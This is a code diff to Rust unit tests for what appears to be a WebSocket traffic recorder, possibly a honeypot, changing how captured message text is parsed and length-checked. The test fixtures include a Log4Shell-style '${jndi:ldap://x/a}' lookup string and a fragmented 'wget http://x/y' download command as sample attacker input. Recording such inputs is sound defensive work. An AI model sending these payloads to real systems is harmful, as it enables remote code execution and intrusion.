@@ -184,9 +184,9 @@ mod tests {
             answer(b"\x81\x02hi"),
             ask([frame(0x01, b"wget "), frame(0x89, b"ping"), frame(0x80, b"http://x/y")].concat()),
         ]);
-        let texts: Vec<&str> = heard.texts.iter().map(|(_, text)| text.as_str()).collect();
+        let texts: Vec<&str> = heard.texts.iter().filter_map(|text| text.strip_prefix("message=")).collect();
         assert_eq!(texts, ["${jndi:ldap://x/a}", &long, "wget http://x/y"]);
-        assert_eq!((heard.app, heard.texts[0].0.as_str()), (Some("websocket"), "message"));
+        assert_eq!((heard.app, texts.len()), (Some("websocket"), heard.texts.len()));
     }
 
     #[test]
@@ -198,7 +198,7 @@ mod tests {
             frame(0x81, b"end"),
         ]
         .concat())]);
-        let lengths: Vec<usize> = heard.texts.iter().map(|(_, text)| text.len()).collect();
+        let lengths: Vec<usize> = heard.texts.iter().map(|text| text.len() - "message=".len()).collect();
         assert_eq!(lengths, [MESSAGE_MAX_BYTES, 3]);
         let many: Vec<Act> = (0..100).map(|_| ask(frame(0x01, &[b'a'; 4_000]))).collect();
         assert!(played(&many).texts.is_empty());
